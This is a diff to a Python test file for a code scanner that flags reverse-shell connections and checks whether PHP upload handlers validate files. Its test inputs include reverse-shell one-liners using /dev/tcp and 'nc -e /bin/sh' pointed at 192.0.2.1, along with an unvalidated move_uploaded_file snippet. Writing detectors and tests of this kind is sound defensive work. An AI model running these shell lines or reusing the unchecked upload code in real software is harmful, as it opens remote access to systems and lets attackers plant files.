@@ -31,3 +31,12 @@ def test_a_fixed_command_that_ties_a_shell_to_another_host() -> None:
     assert "connects-back" in find_facts("exec(\"/bin/bash -c 'bash -i > /dev/tcp/192.0.2.1/9 0>&1'\");")
     assert "connects-back" in find_facts("$c = 'nc -e /bin/sh 192.0.2.1 9'; system($c);")
     assert "connects-back" not in find_facts("exec('/usr/bin/convert -e shape.png');")
+
+
+def test_a_check_counts_only_of_what_was_sent() -> None:
+    upload = "$n = $_FILES['f']['name']; move_uploaded_file($_FILES['f']['tmp_name'], $n);"
+    assert "checks-uploads" not in find_facts("in_array(1, [1]); pathinfo('a.txt');" + upload)
+    ending = "$e = strtolower(end(explode('.', $_FILES['f']['name']))); if (!in_array($e, ['gif'])) exit;"
+    assert "checks-uploads" in find_facts(ending + upload)
+    assert "checks-uploads" in find_facts("getimagesize($_FILES['f']['tmp_name']);" + upload)
+    assert "checks-uploads" in find_facts("finfo_file($i, $_FILES['f']['tmp_name']);" + upload)
